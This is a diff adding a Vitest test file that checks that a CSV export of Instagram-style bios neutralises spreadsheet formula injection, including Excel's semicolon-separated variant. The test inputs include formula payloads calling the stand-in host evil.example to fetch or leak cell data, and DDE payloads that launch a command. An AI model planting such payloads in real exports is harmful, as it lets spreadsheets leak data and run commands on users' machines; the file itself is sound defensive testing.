@@ -1,0 +1,39 @@
+import { expect, test } from 'vitest';
+import { csvOf } from '../../../pipeline/rows/csv.ts';
+
+const cellOf = (text: unknown) => csvOf(['bio'], [[text]]).slice('bio\r\n'.length, -'\r\n'.length);
+
+/** Splits a CSV as Excel does in countries with a decimal comma: a quote counts only at the start of a cell. */
+function cellsWithSemicolons(csv: string): string[] {
+  return csv.split(/[;\r\n]/).map((cell) => cell.trimStart());
+}
+
+test.each([
+  'nice;=HYPERLINK("http://evil.example")',
+  'nice; =WEBSERVICE("http://evil.example/"&A1);more',
+  "line\n=cmd|'/c calc'!A0",
+  "line\r\n -2+3+cmd|'/c calc'!A0",
+  'line\n\n@SUM(1+1)*9',
+  'nice;+IMPORTXML("http://evil.example")',
+  '  =HYPERLINK("http://evil.example")',
+  'nice;\uff1dHYPERLINK("http://evil.example")',
+])('no cell of the CSV of the text %j begins with a formula in Excel with semicolons', (text) => {
+  const csv = csvOf(['url', 'bio', 'followers'], [['https://www.instagram.com/a/', text, 5]]);
+  expect(cellsWithSemicolons(csv).filter((cell) => /^[=+\-@\uff1d]/.test(cell))).toEqual([]);
+});
+
+test.each([
+  ['hello ;-) friends', 'hello ;-) friends'],
+  ['photos by\n@anna and @bert', '"photos by\n@anna and @bert"'],
+  ['- travel\n- food', '"\'- travel\n- food"'],
+  [-5, '-5'],
+  ['', ''],
+])('the text %j stays readable in CSV', (text, cell) => {
+  expect(cellOf(text)).toBe(cell);
+});
+
+test('a text of 100,000 semicolons, spaces or line breaks is converted in linear time', () => {
+  const started = performance.now();
+  for (const part of [';', ' ', '\n', ';=', '; =', ' =']) csvOf(['bio'], [[part.repeat(100_000)]]);
+  expect(performance.now() - started).toBeLessThan(5_000);
+});
